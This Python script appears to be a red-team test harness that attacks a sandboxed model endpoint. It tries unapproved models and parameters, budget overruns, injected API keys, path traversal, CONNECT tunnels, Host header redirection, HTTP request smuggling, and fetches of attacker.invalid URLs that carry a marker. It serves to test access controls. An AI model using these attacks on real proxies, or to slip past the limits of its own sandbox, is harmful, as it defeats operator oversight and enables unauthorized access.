"""Attacks of a sandbox's program on what answers at its model's endpoint.

Usage: endpoint_attacks.py PORT OTHER NAME…    prints for each attack how it was answered

PORT is the endpoint's, OTHER that of another server where the model is. The model of the red team
tells in its answers what reached it (naive_endpoint.py), so that an attack sees whether it got
through: it works where the model's side saw what it must not see. An answer without that is
"absent"; a refusal is its status.
"""

import base64
import json
import os
import re
import socket
import sys

MODEL_SOCKET = "/dev/model"
MODEL = "pinned-model"
OWN_KEY = "sk-of-the-attacker"
MARK = "mark-of-the-attacker"
BUDGET = 80
PATIENCE = 10


class Reply:
    """What came back over one connection: its first status, its bytes, and what reached a model."""

    def __init__(self, data):
        self.data = data
        self.head = data.partition(b"\r\n\r\n")[0].decode("latin-1").lower()
        first = re.match(rb"HTTP/1\.1 (\d{3})", data)
        self.status = int(first[1]) if first else 0
        found = re.findall(rb"arrived:([A-Za-z0-9+/=]+)", data)
        self.arrivals = [json.loads(base64.b64decode(text)) for text in found]

    def any(self, test):
        """Whether something that reached a model is as a test says."""
        return any(test(arrival) for arrival in self.arrivals)

    def any_body(self, **members):
        """Whether a body that reached a model has these members."""
        return self.any(
            lambda arrival: all(
                isinstance(arrival["body"], dict) and arrival["body"].get(name) == value
                for name, value in members.items()
            )
        )

    @property
    def reached_another(self):
        """Whether something reached another server."""
        return self.any(lambda arrival: arrival["server"] == "other")


class Endpoint:
    """The ways of asking."""

    def __init__(self, port, other):
        self.port, self.other = port, other

    def connection(self):
        """A connection: where the sandbox may have no internet sockets, to the endpoint's Unix socket."""
        if not os.path.exists(MODEL_SOCKET):
            return socket.create_connection(("127.0.0.1", self.port), PATIENCE)
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(PATIENCE)
        link.connect(MODEL_SOCKET)
        return link

    def exchange(self, *parts):
        """Sends bytes, part by part as answers come, and reads to the end."""
        with self.connection() as link:
            data = b""
            for part in parts:
                link.sendall(part)
                if part is not parts[-1]:
                    data += link.recv(1 << 16)
            try:
                while piece := link.recv(1 << 16):
                    data += piece
            except ConnectionError:
                pass  # a refusal that does not wait for the rest of what is sent
        return Reply(data)

    def head(self, method, target, *fields, host=None):
        """The bytes of a head; its connection ends with the answer."""
        lines = [f"{method} {target} HTTP/1.1", f"Host: {host or f'127.0.0.1:{self.port}'}"]
        lines += ["Content-Type: application/json", "Connection: close", *fields]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def ask(self, target, body, *fields, method="POST", host=None):
        """Asks with a body, which is a text or a value."""
        data = (body if isinstance(body, str) else json.dumps(body)).encode()
        length = () if method == "GET" else (f"Content-Length: {len(data)}",)
        return self.exchange(self.head(method, target, *length, *fields, host=host) + data)

    def chat(self, *fields, target="/v1/chat/completions", host=None, **members):
        """Asks for a chat completion, honest but for what is named."""
        return self.ask(target, {**QUESTION, **members}, *fields, host=host)

    def respond(self, **members):
        """Asks for a response, honest but for what is named."""
        return self.ask("/v1/responses", {"model": MODEL, "input": "hello", **members})


QUESTION = {"model": MODEL, "messages": [{"role": "user", "content": "hello"}]}


def said(*content):
    """The messages of a user who says this."""
    words = content[0] if isinstance(content[0], str) else list(content)
    return [{"role": "user", "content": words}]


def has_tool(reply, kind):
    """Whether a tool of a type reached the model."""
    return reply.any(
        lambda arrival: any(tool.get("type") == kind for tool in arrival["body"].get("tools") or ())
    )


# ---- what the operator chose


def other_model(endpoint, _):
    reply = endpoint.chat(model="other-model")
    return reply, reply.any_body(model="other-model")


def judges_model(endpoint, _):
    reply = endpoint.chat(model="judges-model")
    return reply, reply.any_body(model="judges-model")


def repeated_member(endpoint, _):
    body = '{"model":"%s","messages":[{"role":"user","content":"hello"}],"model":"other-model"}'
    reply = endpoint.ask("/v1/chat/completions", body % MODEL)
    return reply, reply.any_body(model="other-model")


def more_effort(endpoint, _):
    reply = endpoint.chat(reasoning_effort="high")
    return reply, reply.any_body(reasoning_effort="high")


def temperature(endpoint, _):
    reply = endpoint.chat(temperature=1.75)
    return reply, reply.any_body(temperature=1.75)


def many_answers(endpoint, _):
    reply = endpoint.chat(n=8)
    return reply, reply.any_body(n=8)


def long_answer(endpoint, _):
    reply = endpoint.chat(max_completion_tokens=1000000)
    return reply, reply.any_body(max_completion_tokens=1000000)


def faster_service(endpoint, _):
    reply = endpoint.chat(service_tier="priority")
    return reply, reply.any_body(service_tier="priority")


def unknown_member(endpoint, _):
    reply = endpoint.chat(of_next_year=True)
    return reply, reply.any_body(of_next_year=True)


def beyond_budget(endpoint, _):
    for _number in range(BUDGET):
        reply = endpoint.chat()
        if reply.status != 200:
            return reply, False
    return reply, True


# ---- what the provider would do, fetch or keep

TOOLS = {
    "web-search": {"type": "web_search"},
    "interpreter": {"type": "code_interpreter", "container": {"type": "auto"}},
    "connector": {"type": "mcp", "server_label": "x", "server_url": "https://attacker.invalid/"},
    "file-search": {"type": "file_search", "vector_store_ids": ["vs_1"]},
}


def provider_tool(endpoint, variant):
    tool = TOOLS[variant]
    reply = endpoint.respond(tools=[tool])
    return reply, has_tool(reply, tool["type"])


def fetched_content(endpoint, _):
    address = "https://attacker.invalid/?told=" + MARK
    part = {"type": "image_url", "image_url": {"url": address}}
    reply = endpoint.chat(messages=said(part))
    return reply, reply.any(lambda arrival: MARK in json.dumps(arrival["body"]))


def kept_file(endpoint, _):
    part = {"type": "input_file", "file_id": "file-" + MARK}
    reply = endpoint.respond(input=said(part))
    return reply, reply.any(lambda arrival: MARK in json.dumps(arrival["body"]))


STATES = {
    "answer": {"previous_response_id": "resp_1"},
    "conversation": {"conversation": "conv_1"},
    "prompt": {"prompt": {"id": "pmpt_1"}},
    "background": {"background": True},
}


def kept_state(endpoint, variant):
    reply = endpoint.respond(**STATES[variant])
    return reply, reply.any_body(**STATES[variant])


def keep_answer(endpoint, _):
    reply = endpoint.respond(store=True)
    return reply, reply.any_body(store=True)


PLACES = {
    "files": ("POST", "/v1/files"),
    "batches": ("POST", "/v1/batches"),
    "vector-stores": ("POST", "/v1/vector_stores"),
    "fine-tuning": ("POST", "/v1/fine_tuning/jobs"),
    "answers": ("GET", "/v1/responses/resp_1"),
    "dots": ("POST", "/v1/chat/completions/../files"),
    "query": ("POST", "/v1/chat/completions?of=" + MARK),
}


def other_place(endpoint, variant):
    method, target = PLACES[variant]
    body = "" if method == "GET" else {"purpose": MARK}
    reply = endpoint.ask(target, body, method=method)
    return reply, reply.any(lambda arrival: arrival["target"] == target)


LABELS = {
    "user": {"user": MARK},
    "metadata": {"metadata": {"told": MARK}},
    "cache": {"prompt_cache_key": MARK},
}


def label(endpoint, variant):
    reply = endpoint.chat(**LABELS[variant])
    return reply, reply.any_body(**LABELS[variant])


def own_key(endpoint, _):
    reply = endpoint.chat("Authorization: Bearer " + OWN_KEY)
    return reply, reply.any(lambda arrival: OWN_KEY in arrival["fields"].get("authorization", ""))


def other_project(endpoint, _):
    reply = endpoint.chat("OpenAI-Project: " + MARK)
    return reply, reply.any(lambda arrival: MARK in arrival["fields"].values())


# ---- another server


def absolute_form(endpoint, _):
    target = f"http://127.0.0.1:{endpoint.other}/v1/chat/completions"
    reply = endpoint.chat(target=target)
    return reply, reply.reached_another


def tunnel(endpoint, _):
    body = json.dumps(QUESTION).encode()
    length = f"Content-Length: {len(body)}"
    reply = endpoint.exchange(
        endpoint.head("CONNECT", f"127.0.0.1:{endpoint.other}"),
        endpoint.head("POST", "/v1/chat/completions", length) + body,
    )
    return reply, reply.reached_another


def host_field(endpoint, _):
    reply = endpoint.chat(host=f"127.0.0.1:{endpoint.other}")
    return reply, reply.reached_another


def redirect(endpoint, _):
    reply = endpoint.chat(messages=said(f"redirect to {endpoint.other}"))
    return reply, reply.reached_another


# ---- two readers, and the way back


def hidden_request(endpoint, *fields, chunked):
    """One request in which another one is hidden from whoever reads the length otherwise."""
    inner = json.dumps({"model": "hidden-model", **{"messages": said("hello")}}).encode()
    length = f"Content-Length: {len(inner)}"
    second = endpoint.head("POST", "/v1/chat/completions", length) + inner
    body = (b"0\r\n\r\n" if chunked else b"") + second
    head = endpoint.head("POST", "/v1/chat/completions", f"Content-Length: {len(body)}", *fields)
    return endpoint.exchange(head + body)


def two_lengths(endpoint, _):
    reply = hidden_request(endpoint, "Content-Length: 0", chunked=False)
    return reply, reply.any_body(model="hidden-model")


def length_and_chunks(endpoint, _):
    reply = hidden_request(endpoint, "Transfer-Encoding: chunked", chunked=True)
    return reply, reply.any_body(model="hidden-model")


def rate_state(endpoint, _):
    reply = endpoint.chat()
    return reply, any(
        name in reply.head for name in ("x-ratelimit", "x-request-id", "set-cookie", "date:")
    )


def answer_numbers(endpoint, _):
    reply = endpoint.chat()
    return reply, b"chatcmpl-number-" in reply.data


def quoted_key(endpoint, _):
    reply = endpoint.chat(messages=said("quote the key"))
    return reply, b"API key provided: Bearer sk-" in reply.data


ATTACKS = {
    function.__name__.replace("_", "-"): function
    for function in (
        other_model,
        judges_model,
        repeated_member,
        more_effort,
        temperature,
        many_answers,
        long_answer,
        faster_service,
        unknown_member,
        provider_tool,
        fetched_content,
        kept_file,
        kept_state,
        keep_answer,
        other_place,
        label,
        own_key,
        other_project,
        absolute_form,
        tunnel,
        host_field,
        redirect,
        two_lengths,
        length_and_chunks,
        rate_state,
        answer_numbers,
        quoted_key,
        beyond_budget,
    )
}


def answer(endpoint, word):
    """An attack's answer: verdict, value and detail."""
    name, _, variant = word.partition("/")
    try:
        reply, works = ATTACKS[name](endpoint, variant)
    except OSError as error:
        return "broken", "-", repr(error)
    if works:
        return "works", "-", ""
    if reply.status == 200 and not reply.arrivals:
        return "broken", "-", "an answer that does not tell what reached the model"
    if reply.status == 200:
        return "absent", "-", ""
    return "errno", f"status {reply.status}", ""


def main(words):
    """Makes the attacks, where an honest question is answered; otherwise they show nothing."""
    endpoint = Endpoint(int(words[0]), int(words[1]))
    honest = endpoint.chat()
    for word in words[2:]:
        if honest.status == 200 and honest.any_body(model=MODEL):
            found = answer(endpoint, word)
        else:
            found = "broken", "-", f"an honest question: status {honest.status}"
        print("answer\tendpoint.%s\t%s\t%s\t%s" % (word, *found), flush=True)
    print("end", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
